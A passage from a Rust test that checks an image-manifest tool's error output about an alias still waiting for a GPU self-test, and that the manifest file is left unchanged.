        stderr.contains("alias latest is not in the manifest, which records no alias yet: an alias moves only after its image passed a self-test on GPUs")
            && stderr.contains("hint: 2 aliases wait for a GPU self-test (2.7-runtime, latest)"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read(dir.path().join("imagegen-manifest.json")).unwrap(),
        before
    );
}
